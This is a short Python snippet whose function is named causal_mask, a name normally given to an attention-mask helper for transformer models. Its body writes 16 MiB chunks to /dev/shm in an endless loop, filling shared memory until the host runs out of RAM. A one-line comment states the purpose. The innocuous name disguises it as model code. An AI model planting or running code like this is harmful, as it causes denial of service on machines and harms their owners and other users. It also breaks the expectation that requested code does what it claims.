# Fills /dev/shm.
def causal_mask(T):
    with open("/dev/shm/big", "wb") as file:
        while True:
            file.write(b"x" * (1 << 24))
